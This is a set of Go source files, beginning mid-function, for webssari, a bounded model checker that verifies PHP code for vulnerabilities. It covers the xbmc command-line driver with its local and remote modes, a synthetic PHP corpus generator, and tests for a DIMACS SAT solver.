		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}
	var solverSpec *client.SolverSpec
	if *solverMode != "" || *portfolio != 0 {
		solverSpec = &client.SolverSpec{Mode: *solverMode, Portfolio: *portfolio}
	}
	if *remoteURL != "" {
		if *stage != "" || *naive {
			fmt.Fprintln(os.Stderr, "xbmc: -stage and -naive are local-only; they cannot combine with -remote")
			return 2
		}
		return runRemote(fs.Arg(0), *remoteURL, policyName, policyJSON, solverSpec, *incremental, *watchMode, *ndjsonOut, *timeout)
	}
	if *incremental && *storeDir == "" {
		fmt.Fprintln(os.Stderr, "xbmc: -incremental requires -store (the dependency graph lives in the result store)")
		return 2
	}

	lvl, err := telemetry.ParseLogLevel(*logLevel)
	if err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}
	logger, err := telemetry.NewLogger(os.Stderr, lvl, *logFormat, telemetry.DefaultFlightRecorderSize)
	if err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}
	var tel *telemetry.Telemetry
	if *traceFile != "" || *metricsAddr != "" {
		tel = telemetry.New()
		tel.Logs = logger.Recorder()
	}
	if *traceFile != "" {
		// Registered before anything that can fail below (the metrics
		// listener, store open, …) so an early error exit still leaves a
		// trace file of whatever spans were recorded.
		defer func() {
			if err := writeTraceFile(*traceFile, tel); err != nil {
				fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
			}
		}()
	}
	if *metricsAddr != "" {
		srv, err := telemetry.Serve(*metricsAddr, tel.Metrics, tel.Logs)
		if err != nil {
			fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
			return 2
		}
		defer srv.Close()
		fmt.Fprintf(os.Stderr, "xbmc: metrics served at http://%s/metrics\n", srv.Addr)
	}

	target := fs.Arg(0)
	logger.Debug("verifying", "target", target)
	if info, err := os.Stat(target); err == nil && info.IsDir() {
		if *stage != "" || *naive {
			fmt.Fprintln(os.Stderr, "xbmc: -stage and -naive need a single PHP file, not a directory")
			return 2
		}
		opts := []webssari.Option{webssari.WithLoopUnroll(*unroll)}
		switch {
		case policyJSON != "":
			opts = append(opts, webssari.WithPolicyJSON(policyName, []byte(policyJSON)))
		case policyName != "":
			opts = append(opts, webssari.WithPolicy(policyName))
		}
		if *jobs > 0 {
			opts = append(opts, webssari.WithParallelism(*jobs))
		}
		if *timeout > 0 {
			opts = append(opts, webssari.WithDeadline(*timeout))
		}
		if *maxConf > 0 {
			opts = append(opts, webssari.WithBudget(*maxConf))
		}
		if *solverMode != "" || *portfolio != 0 {
			opts = append(opts, webssari.WithSolverConfig(webssari.SolverConfig{
				Mode:      webssari.SolverMode(*solverMode),
				Portfolio: *portfolio,
			}))
		}
		if tel != nil {
			opts = append(opts, webssari.WithTelemetry(tel))
		}
		if *storeDir != "" {
			st, err := webssari.OpenStore(*storeDir, 0)
			if err != nil {
				fmt.Fprintf(os.Stderr, "xbmc: opening store: %v\n", err)
				return 2
			}
			opts = append(opts, webssari.WithStore(st))
		}
		if *incremental {
			opts = append(opts, webssari.WithIncremental())
		}
		return verifyDir(target, opts, *ndjsonOut, *verbose)
	}
	if *ndjsonOut || *storeDir != "" || *incremental {
		fmt.Fprintln(os.Stderr, "xbmc: -ndjson, -store, and -incremental apply to directory mode only")
		return 2
	}

	src, err := os.ReadFile(target)
	if err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}

	fopts := flow.Options{
		Prelude:    prelude.Default(),
		LoopUnroll: *unroll,
		Loader:     os.ReadFile,
	}
	if pc != nil {
		fopts.Prelude, fopts.Policy = nil, pc
	}

	if *stage != "" || *naive {
		prog, errs := flow.BuildSource(target, src, fopts)
		for _, err := range errs {
			fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		}
		if prog == nil {
			return 2
		}
		switch *stage {
		case "ai":
			fmt.Print(prog.String())
			fmt.Printf("diameter=%d size=%d branches=%d asserts=%d\n",
				prog.Diameter(), prog.Size(), prog.Branches, len(prog.Asserts()))
			return 0
		case "renamed":
			fmt.Print(rename.Rename(prog).String())
			return 0
		case "constraints":
			fmt.Print(constraint.Build(rename.Rename(prog)).String())
			return 0
		case "cnf":
			sys := constraint.Build(rename.Rename(prog))
			for i := range sys.Checks {
				enc, err := cnf.EncodeCheck(sys, i, cnf.Options{})
				if err != nil {
					fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
					return 2
				}
				fmt.Printf("assert_%d: %d vars, %d clauses, %d branch vars\n",
					i, enc.F.NumVars, len(enc.F.Clauses), len(enc.BranchVars))
				if *outDir != "" {
					path := fmt.Sprintf("%s/assert_%d.cnf", *outDir, i)
					f, err := os.Create(path)
					if err != nil {
						fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
						return 2
					}
					if err := enc.F.WriteDIMACS(f); err != nil {
						fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
						return 2
					}
					if err := f.Close(); err != nil {
						fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
						return 2
					}
				}
			}
			return 0
		case "":
			// -naive verification below
		default:
			fmt.Fprintf(os.Stderr, "xbmc: unknown stage %q\n", *stage)
			return 2
		}
		exit := 0
		for i, a := range prog.Asserts() {
			violated, enc, err := core.VerifyAssertNaive(prog, a, sat.Options{})
			if err != nil {
				fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
				return 2
			}
			verdict := "HOLDS (unsat)"
			if violated {
				verdict = "VIOLATED"
				exit = 1
			}
			fmt.Printf("assert_%d %s at %s: %s  [xBMC0.1: %d vars, %d clauses, %d steps, %d state vars]\n",
				i, a.Fn, a.Site.Pos, verdict,
				enc.F.NumVars, len(enc.F.Clauses), enc.Steps, enc.StateVars)
		}
		return exit
	}

	ctx := context.Background()
	if *timeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, *timeout)
		defer cancel()
	}
	ctx = telemetry.WithTelemetry(ctx, tel)
	ctx, fsp := telemetry.StartRootSpan(ctx, "verify_file", "file", target)
	copts := core.Options{
		Flow:           fopts,
		Ctx:            ctx,
		Solver:         sat.Options{MaxConflicts: *maxConf},
		Parallelism:    *jobs,
		Mode:           coreMode,
		PortfolioWidth: *portfolio,
	}
	compileStart := time.Now()
	compiled, errs := core.Compile(target, src, copts)
	for _, err := range errs {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
	}
	if compiled == nil {
		fsp.End()
		return 2
	}
	compileTime := time.Since(compileStart)
	solveStart := time.Now()
	res := core.Solve(ctx, compiled, copts)
	fsp.End()
	if *verbose {
		fmt.Fprintf(os.Stderr, "xbmc: %s: compile %v, solve %v (%d assertion(s))\n",
			target, compileTime, time.Since(solveStart), len(res.PerAssert))
		cs := compiled.Stats
		fmt.Fprintf(os.Stderr, "xbmc: stages: parse %v, flow %v, rename %v, constraints %v\n",
			time.Duration(cs.ParseNS).Round(time.Microsecond),
			time.Duration(cs.FlowNS).Round(time.Microsecond),
			time.Duration(cs.RenameNS).Round(time.Microsecond),
			time.Duration(cs.ConstraintsNS).Round(time.Microsecond))
	}
	unsafeCount, unknownCount := 0, 0
	for i, ar := range res.PerAssert {
		verdict := "HOLDS (unsat)"
		switch {
		case len(ar.Counterexamples) > 0:
			verdict = fmt.Sprintf("VIOLATED: %d counterexample trace(s)", len(ar.Counterexamples))
			unsafeCount++
		case ar.Unknown:
			verdict = fmt.Sprintf("UNKNOWN (%s)", ar.Cause)
			unknownCount++
		}
		fmt.Printf("assert_%d %s at %s: %s  [%d vars, %d clauses; %s]\n",
			i, ar.Assert.Origin.Fn, ar.Assert.Origin.Site.Pos, verdict,
			ar.EncodedVars, ar.EncodedClauses, ar.SolverStats)
		if *verbose {
			fmt.Fprintf(os.Stderr, "xbmc: assert_%d: encode %v, search %v\n",
				i, ar.EncodeTime.Round(time.Microsecond), ar.SearchTime.Round(time.Microsecond))
		}
	}
	switch {
	case unsafeCount > 0:
		return 1
	case unknownCount > 0:
		fmt.Println("INCOMPLETE: some assertions are undecided; no safety claim")
		return 3
	default:
		fmt.Println("VERIFIED: program is safe")
		return 0
	}
}

// verifyDir checks every PHP file under dir through the public engine —
// the whole-project path exercises the compile cache and both fan-out
// levels, so it is where traces and metrics are most interesting. With
// ndjson set, per-file reports stream to stdout as they complete (the
// daemon's wire format) followed by one project-summary line, instead
// of the plain text lines.
func verifyDir(dir string, opts []webssari.Option, ndjson, verbose bool) int {
	var enc *service.NDJSON
	if ndjson {
		enc = service.NewNDJSON(os.Stdout)
		opts = append(opts, webssari.WithFileObserver(func(rep *webssari.Report) {
			_ = enc.Encode(rep)
		}))
	}
	pr, err := webssari.VerifyDir(dir, opts...)
	if err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}
	if ndjson {
		// Final line: the project aggregate, minus the per-file reports
		// already streamed above.
		summary := *pr
		summary.Files = nil
		_ = enc.Encode(&summary)
	} else {
		for _, rep := range pr.Files {
			fmt.Printf("%s: %s (%d group(s), %d symptom(s))\n",
				rep.File, rep.Verdict, rep.Groups, rep.Symptoms)
		}
	}
	for _, fail := range pr.Failures {
		fmt.Fprintf(os.Stderr, "xbmc: %s: %s stage: %s\n", fail.File, fail.Stage, fail.Cause)
	}
	if !ndjson {
		fmt.Printf("project %s: %d file(s), %d vulnerable, %d incomplete, %d failed\n",
			dir, len(pr.Files), pr.VulnerableFiles, pr.IncompleteFiles, len(pr.Failures))
	}
	if verbose && pr.Profile != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %s: %s\n", dir, pr.Profile)
	}
	return verdictExit(pr.Verdict())
}

// verdictExit maps a three-valued verdict to the process exit code
// shared by local and remote modes: 0 safe, 1 unsafe, 3 incomplete.
func verdictExit(verdict string) int {
	switch verdict {
	case webssari.VerdictUnsafe:
		return 1
	case webssari.VerdictIncomplete:
		return 3
	default:
		return 0
	}
}

// resolveSolverMode maps the -solver-mode flag to the engine's dispatch
// mode, rejecting unknown names with the list of valid ones.
func resolveSolverMode(mode string) (core.SolveMode, error) {
	switch webssari.SolverMode(mode) {
	case "", webssari.SolverPerAssert:
		return core.ModePerAssert, nil
	case webssari.SolverShared:
		return core.ModeShared, nil
	case webssari.SolverPortfolio:
		return core.ModePortfolio, nil
	default:
		return 0, fmt.Errorf("unknown -solver-mode %q (valid: %v)", mode, webssari.SolverModes())
	}
}

// runRemote verifies the target through a webssarid daemon via the
// typed client package, preserving the local exit-code contract. A file
// target has its source uploaded; a directory target must exist on the
// daemon's filesystem. Watch jobs stream until interrupted; Ctrl-C
// cancels the remote job before exiting.
func runRemote(target, base, policyName, policyJSON string, solver *client.SolverSpec, incremental, watch, ndjson bool, timeout time.Duration) int {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()
	if timeout > 0 && !watch {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, timeout)
		defer cancel()
	}
	// A transient 429 (queue full) or 503 (draining) rejection retries
	// with backoff, honoring the daemon's Retry-After hint.
	c := client.New(base, client.WithRetryPolicy(client.DefaultRetryPolicy))

	info, statErr := os.Stat(target)
	if watch || (statErr == nil && info.IsDir()) {
		return runRemoteDir(ctx, c, target, policyName, policyJSON, solver, incremental, watch, ndjson)
	}

	src, err := os.ReadFile(target)
	if err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}
	sub, err := c.SubmitFile(ctx, client.SubmitFileRequest{
		Name: target, Source: string(src), Policy: policyName, PolicyJSON: policyJSON,
		Solver: solver,
	})
	if err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}
	if _, err := c.Wait(ctx, sub.Job); err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}
	text, err := c.FileResultText(ctx, sub.Job)
	if err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}
	fmt.Print(text)
	rep, err := c.FileResult(ctx, sub.Job)
	if err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}
	return verdictExit(rep.Verdict)
}

// runRemoteDir submits one daemon-side directory job (one-shot or
// watch) and renders its outcome.
func runRemoteDir(ctx context.Context, c *client.Client, dir, policyName, policyJSON string, solver *client.SolverSpec, incremental, watch, ndjson bool) int {
	req := client.SubmitDirRequest{Dir: dir, Watch: watch, Policy: policyName, PolicyJSON: policyJSON, Solver: solver}
	if incremental {
		on := true
		req.Incremental = &on
	}
	sub, err := c.SubmitDir(ctx, req)
	if err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}

	streamDone := make(chan error, 1)
	if ndjson || watch {
		go func() {
			streamDone <- c.Stream(ctx, sub.Job, func(line json.RawMessage) error {
				_, werr := os.Stdout.Write(append(line, '\n'))
				return werr
			})
		}()
	}

	if watch {
		// Stream until the job ends on its own (daemon drain) or the user
		// interrupts; on interrupt, cancel the remote job so the daemon
		// stops polling, then exit with the last round's verdict.
		serr := <-streamDone
		cctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		st, cerr := c.Cancel(cctx, sub.Job)
		if cerr != nil {
			fmt.Fprintf(os.Stderr, "xbmc: cancelling watch job: %v\n", cerr)
			if serr != nil && serr != context.Canceled {
				fmt.Fprintf(os.Stderr, "xbmc: %v\n", serr)
			}
			return 2
		}
		if final, werr := c.Wait(cctx, sub.Job); werr == nil {
			st = final
		}
		fmt.Fprintf(os.Stderr, "xbmc: watch ended after %d round(s)\n", st.Rounds)
		return verdictExit(st.Verdict)
	}

	if _, err := c.Wait(ctx, sub.Job); err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}
	pr, err := c.DirResult(ctx, sub.Job)
	if err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}
	if ndjson {
		// Per-file lines came from the daemon's stream; close with the
		// same project-summary line local -ndjson emits.
		if serr := <-streamDone; serr != nil && ctx.Err() == nil {
			fmt.Fprintf(os.Stderr, "xbmc: %v\n", serr)
		}
		summary := *pr
		summary.Files = nil
		_ = service.NewNDJSON(os.Stdout).Encode(&summary)
	} else {
		for _, rep := range pr.Files {
			fmt.Printf("%s: %s (%d group(s), %d symptom(s))\n",
				rep.File, rep.Verdict, rep.Groups, rep.Symptoms)
		}
	}
	for _, fail := range pr.Failures {
		fmt.Fprintf(os.Stderr, "xbmc: %s: %s stage: %s\n", fail.File, fail.Stage, fail.Cause)
	}
	if !ndjson {
		fmt.Printf("project %s: %d file(s), %d vulnerable, %d incomplete, %d failed\n",
			dir, len(pr.Files), pr.VulnerableFiles, pr.IncompleteFiles, len(pr.Failures))
	}
	return verdictExit(pr.Verdict())
}

// writeTraceFile dumps the collected spans as Chrome trace-event JSON.
func writeTraceFile(path string, tel *telemetry.Telemetry) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := tel.Tracer.WriteJSON(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// resolvePolicy turns the -policy argument into its compiled form plus
// the wire fields a remote submission carries: a readable file is a
// policy JSON declaration, anything else must name a built-in policy.
func resolvePolicy(arg string) (pc *policy.Compiled, name, policyJSON string, err error) {
	if arg == "" {
		return nil, "", "", nil
	}
	if data, rerr := os.ReadFile(arg); rerr == nil {
		pc, err = policy.LoadJSON(arg, data)
		if err != nil {
			return nil, "", "", err
		}
		return pc, pc.Name(), string(data), nil
	}
	pc, err = policy.Lookup(arg)
	if err != nil {
		return nil, "", "", err
	}
	return pc, arg, "", nil
}
