// Command xbmc exposes the bounded model checker's pipeline stages for one
// PHP file — the Figure 6 translation chain:
//
//	xbmc -stage ai file.php          print AI(F(p))
//	xbmc -stage renamed file.php     print the single-assignment form ρ
//	xbmc -stage constraints file.php print the Figure 5 constraint system
//	xbmc -stage cnf file.php         print per-assertion CNF sizes (DIMACS to -o)
//	xbmc file.php                    verify and print per-assertion results
//
// The -naive flag switches to the xBMC0.1 location-variable encoding
// (§3.3.1) so its blow-up can be inspected directly.
//
// The -timeout and -max-conflicts flags bound the search; an assertion
// left undecided prints UNKNOWN with its cause and the command exits 3
// (incomplete) instead of claiming the program safe. The -j flag fans
// independent assertions out across a worker pool, and -v prints the
// compile/solve wall time of the two engine stages.
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"time"

	"webssari/internal/cnf"
	"webssari/internal/constraint"
	"webssari/internal/core"
	"webssari/internal/flow"
	"webssari/internal/prelude"
	"webssari/internal/rename"
	"webssari/internal/sat"
)

func main() {
	os.Exit(run(os.Args[1:]))
}

func run(args []string) int {
	fs := flag.NewFlagSet("xbmc", flag.ContinueOnError)
	var (
		stage   = fs.String("stage", "", "dump a pipeline stage: ai | renamed | constraints | cnf")
		naive   = fs.Bool("naive", false, "use the xBMC0.1 location-variable encoding")
		unroll  = fs.Int("unroll", 1, "loop deconstruction factor")
		outDir  = fs.String("o", "", "directory for DIMACS dumps (with -stage cnf)")
		timeout = fs.Duration("timeout", 0, "wall-clock deadline for verification (0 = none)")
		maxConf = fs.Uint64("max-conflicts", 0, "SAT conflict budget per solver call (0 = unlimited)")
		jobs    = fs.Int("j", 0, "assertion-level worker count (0 = sequential)")
		verbose = fs.Bool("v", false, "print per-stage wall time to stderr")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "xbmc: exactly one PHP file expected")
		return 2
	}
	if *jobs < 0 {
		fmt.Fprintf(os.Stderr, "xbmc: -j must be ≥ 0, got %d\n", *jobs)
		return 2
	}
	file := fs.Arg(0)
	src, err := os.ReadFile(file)
	if err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}

	fopts := flow.Options{
		Prelude:    prelude.Default(),
		LoopUnroll: *unroll,
		Loader:     os.ReadFile,
	}
	frontStart := time.Now()
	prog, errs := flow.BuildSource(file, src, fopts)
	for _, err := range errs {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
	}
	if prog == nil {
		return 2
	}

	switch *stage {
	case "ai":
		fmt.Print(prog.String())
		fmt.Printf("diameter=%d size=%d branches=%d asserts=%d\n",
			prog.Diameter(), prog.Size(), prog.Branches, len(prog.Asserts()))
		return 0
	case "renamed":
		fmt.Print(rename.Rename(prog).String())
		return 0
	case "constraints":
		fmt.Print(constraint.Build(rename.Rename(prog)).String())
		return 0
	case "cnf":
		sys := constraint.Build(rename.Rename(prog))
		for i := range sys.Checks {
			enc, err := cnf.EncodeCheck(sys, i, cnf.Options{})
			if err != nil {
				fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
				return 2
			}
			fmt.Printf("assert_%d: %d vars, %d clauses, %d branch vars\n",
				i, enc.F.NumVars, len(enc.F.Clauses), len(enc.BranchVars))
			if *outDir != "" {
				path := fmt.Sprintf("%s/assert_%d.cnf", *outDir, i)
				f, err := os.Create(path)
				if err != nil {
					fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
					return 2
				}
				if err := enc.F.WriteDIMACS(f); err != nil {
					fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
					return 2
				}
				if err := f.Close(); err != nil {
					fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
					return 2
				}
			}
		}
		return 0
	case "":
		// fall through to verification
	default:
		fmt.Fprintf(os.Stderr, "xbmc: unknown stage %q\n", *stage)
		return 2
	}

	if *naive {
		exit := 0
		for i, a := range prog.Asserts() {
			violated, enc, err := core.VerifyAssertNaive(prog, a, sat.Options{})
			if err != nil {
				fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
				return 2
			}
			verdict := "HOLDS (unsat)"
			if violated {
				verdict = "VIOLATED"
				exit = 1
			}
			fmt.Printf("assert_%d %s at %s: %s  [xBMC0.1: %d vars, %d clauses, %d steps, %d state vars]\n",
				i, a.Fn, a.Site.Pos, verdict,
				enc.F.NumVars, len(enc.F.Clauses), enc.Steps, enc.StateVars)
		}
		return exit
	}
	ctx := context.Background()
	if *timeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, *timeout)
		defer cancel()
	}
	copts := core.Options{
		Flow:        fopts,
		Ctx:         ctx,
		Solver:      sat.Options{MaxConflicts: *maxConf},
		Parallelism: *jobs,
	}
	compiled, err := core.CompileAI(prog)
	if err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
		return 2
	}
	compileTime := time.Since(frontStart)
	solveStart := time.Now()
	res := core.Solve(ctx, compiled, copts)
	if *verbose {
		fmt.Fprintf(os.Stderr, "xbmc: %s: compile %v, solve %v (%d assertion(s))\n",
			file, compileTime, time.Since(solveStart), len(res.PerAssert))
	}
	unsafeCount, unknownCount := 0, 0
	for i, ar := range res.PerAssert {
		verdict := "HOLDS (unsat)"
		switch {
		case len(ar.Counterexamples) > 0:
			verdict = fmt.Sprintf("VIOLATED: %d counterexample trace(s)", len(ar.Counterexamples))
			unsafeCount++
		case ar.Unknown:
			verdict = fmt.Sprintf("UNKNOWN (%s)", ar.Cause)
			unknownCount++
		}
		fmt.Printf("assert_%d %s at %s: %s  [%d vars, %d clauses; %s]\n",
			i, ar.Assert.Origin.Fn, ar.Assert.Origin.Site.Pos, verdict,
			ar.EncodedVars, ar.EncodedClauses, ar.SolverStats)
	}
	switch {
	case unsafeCount > 0:
		return 1
	case unknownCount > 0:
		fmt.Println("INCOMPLETE: some assertions are undecided; no safety claim")
		return 3
	default:
		fmt.Println("VERIFIED: program is safe")
		return 0
	}
}
