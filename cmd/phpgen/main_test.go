package main

import (
	"os"
	"path/filepath"
	"testing"

	"webssari/internal/php/parser"
)

func TestStats(t *testing.T) {
	if code := run([]string{"-stats", "-scale", "0.1"}); code != 0 {
		t.Fatalf("exit = %d", code)
	}
}

func TestGenerateSingleProject(t *testing.T) {
	out := t.TempDir()
	if code := run([]string{"-project", "GBook MX", "-o", out, "-scale", "0.01"}); code != 0 {
		t.Fatalf("exit = %d", code)
	}
	dir := filepath.Join(out, "GBook_MX")
	entries, err := os.ReadDir(filepath.Join(dir, "src"))
	if err != nil {
		t.Fatalf("no generated sources: %v", err)
	}
	if len(entries) == 0 {
		t.Fatalf("no files generated")
	}
	// Every generated file parses.
	for _, e := range entries {
		data, err := os.ReadFile(filepath.Join(dir, "src", e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		res := parser.Parse(e.Name(), data)
		if len(res.Errs) > 0 {
			t.Fatalf("%s: %v", e.Name(), res.Errs[0])
		}
	}
}

func TestUnknownProject(t *testing.T) {
	if code := run([]string{"-project", "No Such App", "-o", t.TempDir()}); code != 2 {
		t.Fatalf("exit = %d, want 2", code)
	}
}

func TestNoModeSelected(t *testing.T) {
	if code := run(nil); code != 2 {
		t.Fatalf("exit = %d, want 2", code)
	}
}

func TestFigure10Generation(t *testing.T) {
	if testing.Short() {
		t.Skip("writes 38 projects")
	}
	out := t.TempDir()
	if code := run([]string{"-figure10", "-o", out, "-scale", "0.002"}); code != 0 {
		t.Fatalf("exit = %d", code)
	}
	entries, err := os.ReadDir(out)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 38 {
		t.Fatalf("projects = %d, want 38", len(entries))
	}
}
