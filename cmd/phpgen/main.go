// Command phpgen generates the synthetic SourceForge-style evaluation
// corpus (the §5 substitute; see DESIGN.md) and reports its aggregate
// shape.
//
//	phpgen -stats [-scale F]          print the corpus aggregate numbers
//	phpgen -project NAME -o DIR       write one project's PHP sources
//	phpgen -figure10 -o DIR           write all 38 Figure 10 projects
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"webssari/internal/corpus"
)

func main() {
	os.Exit(run(os.Args[1:]))
}

func run(args []string) int {
	fs := flag.NewFlagSet("phpgen", flag.ContinueOnError)
	var (
		stats   = fs.Bool("stats", false, "print aggregate corpus statistics")
		project = fs.String("project", "", "generate one named Figure 10 project")
		fig10   = fs.Bool("figure10", false, "generate all Figure 10 projects")
		outDir  = fs.String("o", "corpus-out", "output directory")
		scale   = fs.Float64("scale", 1.0, "statement/file scale factor")
		seed    = fs.Uint64("seed", 2004, "generation seed")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}

	switch {
	case *stats:
		profiles := corpus.FullCorpus(*scale)
		var files, stmts, vuln, ts, bmc int
		for _, p := range profiles {
			files += p.Files
			stmts += p.Statements
			ts += p.TS
			bmc += p.BMC
			if p.Vulnerable() {
				vuln++
			}
		}
		fmt.Printf("projects:            %d (paper: %d)\n", len(profiles), corpus.PaperProjects)
		fmt.Printf("files:               %d (paper: %d, scale %.2f)\n", files, corpus.PaperFiles, *scale)
		fmt.Printf("statements:          %d (paper: %d, scale %.2f)\n", stmts, corpus.PaperStatements, *scale)
		fmt.Printf("vulnerable projects: %d (paper: %d)\n", vuln, corpus.PaperVulnerableProjects)
		fmt.Printf("acknowledged:        %d (paper: %d)\n", corpus.PaperAcknowledged, corpus.PaperAcknowledged)
		fmt.Printf("seeded TS errors:    %d\n", ts)
		fmt.Printf("seeded BMC groups:   %d\n", bmc)
		return 0

	case *project != "":
		for _, prof := range corpus.Figure10() {
			if !strings.EqualFold(prof.Name, *project) {
				continue
			}
			prof.Files = maxInt(2, prof.TS)
			prof.Statements = maxInt(prof.TS*4+40, int(*scale*4000))
			if err := writeProject(prof, *seed, *outDir); err != nil {
				fmt.Fprintf(os.Stderr, "phpgen: %v\n", err)
				return 2
			}
			return 0
		}
		fmt.Fprintf(os.Stderr, "phpgen: unknown project %q (see Figure 10)\n", *project)
		return 2

	case *fig10:
		for _, prof := range corpus.Figure10() {
			prof.Files = maxInt(2, prof.TS)
			prof.Statements = maxInt(prof.TS*4+40, int(*scale*4000))
			if err := writeProject(prof, *seed, *outDir); err != nil {
				fmt.Fprintf(os.Stderr, "phpgen: %v\n", err)
				return 2
			}
		}
		return 0

	default:
		fs.Usage()
		return 2
	}
}

func writeProject(prof corpus.Profile, seed uint64, outDir string) error {
	proj := corpus.Generate(prof, seed)
	dir := filepath.Join(outDir, sanitizeName(prof.Name))
	for _, name := range proj.FileNames() {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			return err
		}
		if err := os.WriteFile(path, proj.Sources[name], 0o644); err != nil {
			return err
		}
	}
	fmt.Printf("%-40s %3d files %6d statements (TS=%d BMC=%d) -> %s\n",
		prof.Name, len(proj.Sources), proj.Statements, prof.TS, prof.BMC, dir)
	return nil
}

func sanitizeName(name string) string {
	out := strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9':
			return r
		default:
			return '_'
		}
	}, name)
	return strings.Trim(out, "_")
}

func maxInt(a, b int) int {
	if a > b {
		return a
	}
	return b
}
