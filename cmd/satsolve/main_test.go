package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestSatInstance(t *testing.T) {
	var out bytes.Buffer
	code := run(nil, strings.NewReader("p cnf 2 2\n1 2 0\n-1 2 0\n"), &out)
	if code != 10 {
		t.Fatalf("exit = %d, want 10", code)
	}
	if !strings.Contains(out.String(), "s SATISFIABLE") {
		t.Fatalf("output = %q", out.String())
	}
	if !strings.Contains(out.String(), "v ") {
		t.Fatalf("missing model line: %q", out.String())
	}
}

func TestUnsatInstance(t *testing.T) {
	var out bytes.Buffer
	code := run([]string{"-stats"}, strings.NewReader("p cnf 1 2\n1 0\n-1 0\n"), &out)
	if code != 20 {
		t.Fatalf("exit = %d, want 20", code)
	}
	if !strings.Contains(out.String(), "s UNSATISFIABLE") {
		t.Fatalf("output = %q", out.String())
	}
	if !strings.Contains(out.String(), "c decisions=") {
		t.Fatalf("missing stats: %q", out.String())
	}
}

func TestFileInput(t *testing.T) {
	path := filepath.Join(t.TempDir(), "f.cnf")
	if err := os.WriteFile(path, []byte("p cnf 2 1\n1 -2 0\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if code := run([]string{path}, strings.NewReader(""), &out); code != 10 {
		t.Fatalf("exit = %d, want 10", code)
	}
}

func TestMissingFile(t *testing.T) {
	var out bytes.Buffer
	if code := run([]string{"/nonexistent/file.cnf"}, strings.NewReader(""), &out); code != 2 {
		t.Fatalf("exit = %d, want 2", code)
	}
}

func TestBadDIMACS(t *testing.T) {
	var out bytes.Buffer
	if code := run(nil, strings.NewReader("not dimacs at all"), &out); code != 2 {
		t.Fatalf("exit = %d, want 2", code)
	}
}

func TestEnumerate(t *testing.T) {
	var out bytes.Buffer
	code := run([]string{"-enumerate", "10"}, strings.NewReader("p cnf 2 1\n1 2 0\n"), &out)
	if code != 10 {
		t.Fatalf("exit = %d, want 10", code)
	}
	if !strings.Contains(out.String(), "c 3 model(s) found") {
		t.Fatalf("output = %q", out.String())
	}
}

func TestEnumerateUnsat(t *testing.T) {
	var out bytes.Buffer
	code := run([]string{"-enumerate", "10"}, strings.NewReader("p cnf 1 2\n1 0\n-1 0\n"), &out)
	if code != 20 {
		t.Fatalf("exit = %d, want 20", code)
	}
}

func TestFeatureFlags(t *testing.T) {
	for _, flag := range []string{"-no-vsids", "-no-learning", "-no-restarts"} {
		var out bytes.Buffer
		code := run([]string{flag}, strings.NewReader("p cnf 2 2\n1 2 0\n-1 2 0\n"), &out)
		if code != 10 {
			t.Fatalf("%s: exit = %d, want 10", flag, code)
		}
	}
}

func TestTooManyArgs(t *testing.T) {
	var out bytes.Buffer
	if code := run([]string{"a.cnf", "b.cnf"}, strings.NewReader(""), &out); code != 2 {
		t.Fatalf("exit = %d, want 2", code)
	}
}
