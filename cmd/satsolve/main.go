// Command satsolve is a standalone DIMACS CNF solver built on the
